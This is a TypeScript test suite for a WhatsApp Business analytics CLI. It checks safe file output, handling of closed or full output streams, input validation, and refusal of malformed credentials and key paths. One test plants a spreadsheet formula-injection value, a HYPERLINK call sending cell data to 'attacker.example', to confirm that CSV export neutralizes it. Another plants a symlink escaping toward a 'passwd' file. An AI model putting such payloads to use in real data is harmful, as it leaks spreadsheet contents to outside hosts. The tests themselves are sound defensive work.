/**
 * The CLI never damages a file nor ignores its input: `--out` onto folders, devices, FIFOs,
 * sockets and links; standard output closed or full; query files with unknown keys; empty list
 * flags; credentials with line breaks; private key paths that are not key files; list CSV cells.
 * In-process through captureCli, or as a child process (`node src/cli.js` of this build) where
 * standard output itself is the subject.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { closeSync, openSync } from 'node:fs';
import { lstat, mkdir, readFile, readdir, symlink, truncate, writeFile } from 'node:fs/promises';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { HttpClient } from '../../../src/core/http';
import type { Sandbox } from '../../../src/sandbox';
import { startSandbox } from '../../../src/sandbox';
import { captureCli, listenUnix, mkfifo, readFifo, rejection, startHostileServer, tempDir } from '../helpers';

const CLI = path.resolve(__dirname, '../../../src/cli.js');
const FIXTURE = path.resolve('test/fixtures/vonage/messaging.json');
const normalize = ['normalize', '--provider', 'vonage', '--kind', 'messaging', FIXTURE];
const DAY = 86_400_000;
const iso = (ms: number) => new Date(ms).toISOString().slice(0, 10);
const today = Math.floor(Date.now() / DAY) * DAY;

/** One error line on stderr (usage errors add the "Run --help" line), no stack trace. */
function oneLine(stderr: string, usage = false): void {
  const lines = stderr.trim().split('\n');
  assert.equal(lines.length, usage ? 2 : 1, stderr);
  assert.match(lines[0]!, /^waba-analytics: /);
  assert.ok(!/\n\s+at /.test(stderr), 'no stack trace');
}

/** Run `node src/cli.js` with standard output going to `stdout` ('pipe', 'closed' or an fd). */
function child(args: string[], stdout: 'pipe' | 'closed' | number, env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const c = spawn(process.execPath, [CLI, ...args], { env: { PATH: process.env.PATH ?? '', ...env }, stdio: ['ignore', stdout === 'closed' ? 'pipe' : stdout, 'pipe'] });
    // The reading end closes before the child writes anything: its first write meets EPIPE.
    if (stdout === 'closed') c.stdout!.destroy();
    let out = '';
    let err = '';
    if (stdout === 'pipe') c.stdout!.on('data', (d: Buffer) => (out += d));
    c.stderr!.on('data', (d: Buffer) => (err += d));
    c.on('close', (code) => resolve({ code, stdout: out, stderr: err }));
  });
}

/** A Vonage messaging body of `n` points (a couple of MB once normalized). */
async function bigBody(dir: string, n: number): Promise<string> {
  const start = Date.UTC(2026, 0, 1) / 1000;
  const rows = Array.from({ length: n }, (_x, i) => ({ start: String(start + i * 1800), end: String(start + (i + 1) * 1800), sent: i, delivered: i }));
  const file = path.join(dir, 'big.json');
  await writeFile(file, JSON.stringify({ id: '345688589250625', granularity: 'HALF_HOUR', _embedded: { messaging_analytics: rows } }));
  return file;
}

let sandbox: Sandbox;
before(async () => {
  sandbox = await startSandbox();
});
after(async () => {
  await sandbox.close();
});
const metaEnv = () => ({ WABA_META_BASE_URL: sandbox.metaBaseUrl, WABA_META_TOKEN: sandbox.credentials.metaToken });

describe('CLI --out: only a regular file is replaced', () => {
  it("--out '', --out dir/, --out . and --out <an existing folder> are usage errors (exit 2), --force included", async () => {
    const dir = await tempDir();
    await writeFile(path.join(dir, 'inside.txt'), 'kept');
    for (const out of ['', ' ', `${dir}/`, `${dir}/new-folder/`, dir, `${dir}/.`, '.']) {
      for (const force of [[], ['--force']]) {
        const r = await captureCli([...normalize, '--out', out, ...force], {});
        assert.equal(r.code, 2, `--out "${out}": ${r.stderr}`);
        oneLine(r.stderr, true);
        assert.match(r.stderr, /--out (is empty|.* names a folder)/);
        assert.equal(r.stdout, '');
      }
    }
    assert.deepEqual(await readdir(dir), ['inside.txt'], 'nothing created, nothing replaced');
  });

  it('--out /dev/null is written through (no --force needed), nothing printed', async () => {
    const r = await captureCli([...normalize, '--out', '/dev/null'], {});
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, '');
    assert.equal(r.stderr, '');
    assert.ok((await lstat('/dev/null')).isCharacterDevice());
  });

  it('--out FIFO is written through like a shell redirect, with or without --force; the FIFO stays a FIFO', async () => {
    const dir = await tempDir();
    const fifo = await mkfifo(path.join(dir, 'results'));
    for (const force of [[], ['--force']]) {
      const read = readFifo(fifo);
      const r = await captureCli([...normalize, '--out', fifo, ...force], {});
      assert.equal(r.code, 0, r.stderr);
      assert.equal(JSON.parse(await read).provider, 'vonage');
      assert.ok((await lstat(fifo)).isFIFO());
    }
    assert.deepEqual(await readdir(dir), ['results'], 'no temp file, nothing renamed');
  });

  it('--out onto a socket is refused in one line (exit 1), --force included', async () => {
    const dir = await tempDir();
    const sock = path.join(dir, 'app.sock');
    const server = await listenUnix(sock);
    try {
      for (const force of [[], ['--force']]) {
        const r = await captureCli([...normalize, '--out', sock, ...force], {});
        assert.equal(r.code, 1);
        oneLine(r.stderr);
        assert.match(r.stderr, /app\.sock is a socket, not a file/);
      }
      assert.ok((await lstat(sock)).isSocket());
    } finally {
      await server.close();
    }
  });

  it('--out through a link: followed only to a regular file in the same folder (that file is replaced, with --force); a link elsewhere is refused', async () => {
    const dir = await tempDir();
    const outside = await tempDir();
    await writeFile(path.join(outside, 'passwd'), 'root:x:0:0');
    await symlink(path.join(outside, 'passwd'), path.join(dir, 'escape.json'));
    for (const force of [[], ['--force']]) {
      const r = await captureCli([...normalize, '--out', path.join(dir, 'escape.json'), ...force], {});
      assert.equal(r.code, 1);
      oneLine(r.stderr);
      assert.match(r.stderr, /escape\.json is a link to .*passwd, outside /);
    }
    assert.equal(await readFile(path.join(outside, 'passwd'), 'utf8'), 'root:x:0:0');

    await mkdir(path.join(dir, 'data'));
    await writeFile(path.join(dir, 'data', 'latest.json'), 'old');
    await symlink('data/latest.json', path.join(dir, 'latest.json'));
    const refused = await captureCli([...normalize, '--out', path.join(dir, 'latest.json')], {});
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /already exists\. Add --force to replace it/);
    const forced = await captureCli([...normalize, '--out', path.join(dir, 'latest.json'), '--force'], {});
    assert.equal(forced.code, 0, forced.stderr);
    assert.equal(JSON.parse(await readFile(path.join(dir, 'data', 'latest.json'), 'utf8')).provider, 'vonage');
    assert.ok((await lstat(path.join(dir, 'latest.json'))).isSymbolicLink(), 'the link stays a link');
  });

  it('an --out that cannot be written is found before the query sends anything', async () => {
    const dir = await tempDir();
    const existing = path.join(dir, 'report.json');
    await writeFile(existing, 'keep');
    const waba = sandbox.data.wabas.meta[0]!;
    sandbox.stats.reset();
    const r = await captureCli(['query', 'pricing', '--provider', 'meta', '--waba', waba.id, '--from', iso(today - 3 * DAY), '--to', iso(today - DAY), '--out', existing], metaEnv());
    assert.equal(r.code, 1);
    oneLine(r.stderr);
    assert.match(r.stderr, /report\.json already exists\. Add --force/);
    assert.equal(sandbox.stats.requests, 0, 'no request spent');
    assert.equal(await readFile(existing, 'utf8'), 'keep');
  });
});

describe('CLI standard output: a failed write is one line and exit 1', () => {
  it('a full disk (/dev/full as standard output)', async () => {
    const full = openSync('/dev/full', 'w');
    try {
      const r = await child(normalize, full);
      assert.equal(r.code, 1, r.stderr);
      oneLine(r.stderr);
      assert.match(r.stderr, /Could not write to standard output: no space left on the device \(ENOSPC\)/);
      const viaOut = await child([...normalize, '--out', '/dev/stdout'], full);
      assert.equal(viaOut.code, 1, viaOut.stderr);
      oneLine(viaOut.stderr);
      assert.match(viaOut.stderr, /ENOSPC/);
    } finally {
      closeSync(full);
    }
  });

  it('a closed pipe (the reader went away before the output was written)', async () => {
    const dir = await tempDir();
    const body = await bigBody(dir, 20_000);
    const r = await child(['normalize', '--provider', 'vonage', '--kind', 'messaging', body], 'closed');
    assert.equal(r.code, 1, r.stderr);
    oneLine(r.stderr);
    assert.match(r.stderr, /Could not write to standard output: the reading end was closed \(EPIPE\)\. The program reading the output stopped before the end\./);
  });

  it('--out /dev/stdout writes to standard output, whatever it is', async () => {
    const r = await child([...normalize, '--out', '/dev/stdout'], 'pipe');
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).provider, 'vonage');
    assert.equal(r.stderr, '');
  });
});

describe('CLI input: nothing given is ignored', () => {
  const pricing = (waba: string) => ['query', 'pricing', '--provider', 'meta', '--waba', waba, '--from', iso(today - 3 * DAY), '--to', iso(today - DAY)];

  it('an empty list flag is a usage error naming the flag', async () => {
    const waba = sandbox.data.wabas.meta[0]!.id;
    for (const [flag, value] of [
      ['--countries', ''],
      ['--country-codes', ' '],
      ['--dimensions', ' , '],
      ['--phone-numbers', ','],
      ['--metrics', ''],
      ['--pricing-categories', ''],
      ['--pricing-types', ''],
      ['--tiers', ''],
    ]) {
      const r = await captureCli([...pricing(waba), flag!, value!], metaEnv());
      assert.equal(r.code, 2, `${flag}: ${r.stderr}`);
      oneLine(r.stderr, true);
      assert.ok(r.stderr.startsWith(`waba-analytics: ${flag} is empty`), r.stderr);
    }
    const templates = await captureCli(['query', 'template', '--provider', 'meta', '--waba', waba, '--from', iso(today - 3 * DAY), '--to', iso(today - DAY), '--templates', ''], metaEnv());
    assert.equal(templates.code, 2);
    assert.match(templates.stderr, /--templates is empty/);
    const wrongKind = await captureCli([...pricing(waba), '--templates', '1'], metaEnv());
    assert.equal(wrongKind.code, 2);
    assert.match(wrongKind.stderr, /--templates does not apply to pricing queries/);
  });

  it('a query file with an unknown key, around the query or in it, is refused naming the key; "$schema" and "title" are known', async () => {
    const dir = await tempDir();
    const waba = sandbox.data.wabas.meta[0]!.id;
    const query = { kind: 'pricing', provider: 'meta', wabaId: waba, from: iso(today - 3 * DAY), to: iso(today - DAY) };
    const cases: Array<[unknown, RegExp]> = [
      [{ title: 'x', query: { ...query, countrys: ['US'] } }, /the query has an unknown key "countrys"\. A pricing query takes: .*countryCodes/],
      [{ query, sort: 'desc' }, /has an unknown key "sort"\. A saved query file holds "\$schema", "title", "query"/],
      [{ ...query, templateIds: ['1'] }, /the query has an unknown key "templateIds"/],
    ];
    sandbox.stats.reset();
    for (const [content, words] of cases) {
      const file = path.join(dir, 'q.waba-query.json');
      await writeFile(file, JSON.stringify(content));
      const r = await captureCli(['query', '--query-file', file], metaEnv());
      assert.equal(r.code, 1, r.stderr);
      oneLine(r.stderr);
      assert.match(r.stderr, words);
    }
    assert.equal(sandbox.stats.requests, 0);
    const ok = path.join(dir, 'ok.waba-query.json');
    await writeFile(ok, JSON.stringify({ $schema: '../schemas/waba-query.schema.json', title: 'Pricing', query }));
    const r = await captureCli(['query', '--query-file', ok], metaEnv());
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).kind, 'pricing');
  });

  it('the list commands guard formula cells in CSV as the query CSV does', async () => {
    const waba = sandbox.data.wabas.meta[0]!;
    const names = { waba: waba.name, template: waba.templates[0]!.name, template2: waba.templates[1]!.name };
    waba.name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    waba.templates[0]!.name = '@SUM(1+1)';
    waba.templates[1]!.name = '-2+3';
    try {
      const w = await captureCli(['wabas', '--provider', 'meta', '--format', 'csv'], metaEnv());
      assert.equal(w.code, 0, w.stderr);
      assert.ok(w.stdout.includes(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"`), w.stdout);
      assert.ok(!/(^|,)[=+\-@]/m.test(w.stdout.replace(/"[^"]*(""[^"]*)*"/g, '')), 'no cell starts a formula');
      const t = await captureCli(['templates', '--provider', 'meta', '--waba', waba.id, '--format', 'csv'], metaEnv());
      assert.equal(t.code, 0, t.stderr);
      assert.ok(t.stdout.includes(",'@SUM(1+1),") || t.stdout.includes(",'@SUM(1+1)\r\n"), t.stdout.slice(0, 400));
      assert.ok(t.stdout.includes("'-2+3"));
      assert.ok(!/(^|,)[=+\-@\t]/m.test(t.stdout));
    } finally {
      waba.name = names.waba;
      waba.templates[0]!.name = names.template;
      waba.templates[1]!.name = names.template2;
    }
  });
});

describe('CLI credentials and keys: their own message, never a retry or a hang', () => {
  it('a credential with a line break or a control character is refused before any request, without printing it', async () => {
    const server = await startHostileServer(() => ({ status: 500, body: {} }));
    try {
      const secret = 'SENTINELtok' + 'en123456';
      for (const [env, words] of [
        [{ WABA_META_BASE_URL: server.url, WABA_META_TOKEN: `${secret}\n${secret}` }, /^waba-analytics: WABA_META_TOKEN contains a line break: paste the token again without it\.$/],
        [{ WABA_META_BASE_URL: server.url, WABA_META_TOKEN: `${secret}\r` + 'x' }, /WABA_META_TOKEN contains a line break/],
        [{ VONAGE_BASE_URL: server.url, VONAGE_API_KEY: `ab\ncd`, VONAGE_API_SECRET: secret }, /VONAGE_API_KEY contains a line break: paste the API key again/],
        [{ VONAGE_BASE_URL: server.url, VONAGE_API_KEY: 'abcd', VONAGE_API_SECRET: `${secret}\u001b[0m` }, /VONAGE_API_SECRET contains a control character: paste the API secret again/],
        [{ VONAGE_BASE_URL: server.url, VONAGE_API_KEY: 'abcd', VONAGE_API_SECRET: `${secret}\u200b` }, /VONAGE_API_SECRET contains a character that is not plain ASCII/],
      ] as const) {
        const provider = 'WABA_META_TOKEN' in env ? 'meta' : 'vonage';
        const r = await captureCli(['wabas', '--provider', provider], env);
        assert.equal(r.code, 1, r.stderr);
        oneLine(r.stderr);
        assert.match(r.stderr.trim(), words);
        assert.ok(!r.stderr.includes(secret) && !r.stdout.includes(secret), 'the credential is never printed');
      }
      assert.equal(server.requests.length, 0, 'nothing was sent, nothing retried');
      // A line break at the end (as `$(cat token.txt)` leaves none, but an editor might) is only trimmed.
      const trimmed = await captureCli(['wabas', '--provider', 'meta'], { ...metaEnv(), WABA_META_TOKEN: `${sandbox.credentials.metaToken}\n` });
      assert.equal(trimmed.code, 0, trimmed.stderr);
    } finally {
      await server.close();
    }
  });

  it('the HTTP client refuses a header with a line break as a config error, never sent, never retried', async () => {
    const server = await startHostileServer(() => ({ status: 200, body: {} }));
    let slept = 0;
    try {
      const client = new HttpClient({
        provider: 'meta',
        baseUrl: server.url,
        authorization: () => 'Bearer abc\ndef',
        classify: () => ({ retry: true }),
        toError: () => assert.fail('no response expected'),
        sleep: async () => {
          slept++;
        },
      });
      const e = await rejection(client.request({ url: '/me', endpoint: 'debug_token' }));
      assert.equal(e.kind, 'config');
      assert.equal(e.message, 'Meta debug_token was not sent: the credential contains a line break. Enter the token (or the key and secret) again without it.');
      assert.ok(!e.message.includes('abc'));
      assert.equal(server.requests.length, 0);
      assert.equal(slept, 0, 'no retry');
      assert.equal(client.requestCount, 0);
    } finally {
      await server.close();
    }
  });

  it('VONAGE_PRIVATE_KEY naming a folder, a FIFO (never waited on), /dev/zero, a 50 MB file or a file without a key: its own message', { timeout: 20_000 }, async () => {
    const dir = await tempDir();
    const fifo = await mkfifo(path.join(dir, 'key.fifo'));
    const huge = path.join(dir, 'huge.key');
    await writeFile(huge, '');
    await truncate(huge, 50 * 1024 * 1024);
    const notKey = path.join(dir, 'notes.txt');
    await writeFile(notKey, 'just some notes');
    const base = { VONAGE_BASE_URL: sandbox.vonageBaseUrl, VONAGE_API_KEY: sandbox.credentials.vonageApiKey, VONAGE_API_SECRET: sandbox.credentials.vonageApiSecret, VONAGE_APPLICATION_ID: sandbox.credentials.vonageApplicationId };
    for (const [key, words] of [
      [dir, /VONAGE_PRIVATE_KEY names a folder/],
      [fifo, /VONAGE_PRIVATE_KEY names .*key\.fifo, which is a FIFO, not a key file/],
      ['/dev/zero', /VONAGE_PRIVATE_KEY names \/dev\/zero, which is a character device, not a key file/],
      [huge, /VONAGE_PRIVATE_KEY names .*huge\.key, a file of 51200 KB; a private key file is a few KB/],
      [notKey, /VONAGE_PRIVATE_KEY names .*notes\.txt, which holds no PEM private key/],
      [path.join(dir, 'missing.key'), /VONAGE_PRIVATE_KEY is neither a PEM key nor the path of a file/],
    ] as const) {
      const started = performance.now();
      const r = await captureCli(['wabas', '--provider', 'vonage'], { ...base, VONAGE_PRIVATE_KEY: key });
      assert.ok(performance.now() - started < 5000, `${key}: no hang`);
      assert.equal(r.code, 1, `${key}: ${r.stderr}`);
      oneLine(r.stderr);
      assert.match(r.stderr, words);
    }
    // A PEM key, as text or as a file, stays accepted.
    const keyFile = path.join(dir, 'private.key');
    await writeFile(keyFile, sandbox.credentials.vonagePrivateKey);
    for (const key of [keyFile, sandbox.credentials.vonagePrivateKey, sandbox.credentials.vonagePrivateKey.replace(/\n/g, '\\n')]) {
      const r = await captureCli(['templates', '--provider', 'vonage', '--waba', sandbox.data.wabas.vonage[0]!.id], { ...base, VONAGE_PRIVATE_KEY: key });
      assert.equal(r.code, 0, r.stderr);
      assert.ok(JSON.parse(r.stdout).length > 0);
    }
  });
});
